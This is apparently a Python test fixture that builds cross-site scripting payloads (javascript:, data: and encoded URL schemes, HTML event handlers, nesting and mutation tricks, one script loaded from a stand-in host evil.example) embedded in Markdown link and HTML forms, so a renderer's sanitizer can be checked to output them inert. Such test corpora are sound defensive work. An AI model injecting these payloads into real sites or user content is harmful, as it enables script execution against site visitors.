"""Cross-site scripting payloads, as staff (or an attacker with a staff account) might put
them in a post's Markdown: raw HTML, event handlers, dangerous URL schemes in links and
images (plain, encoded, split by whitespace and control characters), and Markdown's own
link forms (inline, reference, autolink). Every one must render inert."""

from __future__ import annotations

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#09;script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "\x00javascript:alert(1)",
    "jav\u200bascript:alert(1)",
]

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="javascript:alert(1)">click</a>',
    "<a href=javascript&colon;alert(1)>click</a>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    "<style>@import 'javascript:alert(1)';</style>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>text</p>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<a href=# onmouseover=alert(1)>hover</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
]


def markdown_payloads() -> list[str]:
    """Every payload in the places Markdown puts a URL or passes HTML through."""
    out = list(RAW_HTML)
    for url in SCHEMES:
        out += [
            f"[click]({url})",
            f"[click](<{url}>)",
            f"![img]({url})",
            f"[click][ref]\n\n[ref]: {url}",
            f"<{url}>",
            f'[click]({url} "title")',
        ]
    out += [
        '[a](https://example.com" onmouseover="alert(1))',
        "[a](https://example.com 'x\" onclick=\"alert(1)')",
        '![a" onerror="alert(1)](https://example.com/x.png)',
        "[<img src=x onerror=alert(1)>](https://example.com)",
        "`<script>alert(1)</script>`",
        "```html\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
        "# <svg onload=alert(1)>",
        "**<img src=x onerror=alert(1)>**",
        "[x](https://example.com)<script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ]
    return out
